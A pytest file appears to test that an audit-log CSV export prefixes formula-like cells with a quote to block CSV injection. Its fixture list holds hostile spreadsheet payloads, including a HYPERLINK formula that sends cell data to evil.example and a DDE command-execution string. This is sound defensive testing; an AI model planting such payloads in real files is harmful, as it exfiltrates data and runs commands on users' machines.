"""The CSV export never hands a spreadsheet a live formula (OWASP "CSV Injection")."""

from __future__ import annotations

import csv
import io
import json
from typing import Any

import pytest

from apps.audit.apis import FORMULA_STARTS, csv_cell
from tests.factories import AIModelFactory

pytestmark = pytest.mark.django_db

NAMES = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
]


def _export(client: Any, fmt: str) -> str:
    response = client.get("/api/v1/audit/export/", {"format": fmt, "action": "create"})
    assert response.status_code == 200
    return b"".join(response.streaming_content).decode("utf-8")


def test_formula_cells_are_prefixed_with_a_quote_in_csv_only(client_for, personas) -> None:
    for name in NAMES:
        AIModelFactory(organization=personas.org, name=name)
    client = client_for("auditor")

    rows = list(csv.DictReader(io.StringIO(_export(client, "csv"), newline="")))
    labels = [row["object_label"] for row in rows if row["object_type"] == "registry.aimodel"]
    assert labels == ["'" + name for name in NAMES]
    assert all(not cell.startswith(FORMULA_STARTS) for row in rows for cell in row.values())

    # JSONL is for machines and the offline verifier: the text is exact there.
    records = [json.loads(line) for line in _export(client, "jsonl").splitlines()]
    assert [r["object_label"] for r in records if r["object_type"] == "registry.aimodel"] == NAMES


@pytest.mark.parametrize(
    ("value", "expected"),
    [("plain", "plain"), ("a=b", "a=b"), ("=1", "'=1"), (7, 7), ("", ""), ("-", "'-")],
)
def test_csv_cell(value: Any, expected: Any) -> None:
    assert csv_cell(value) == expected
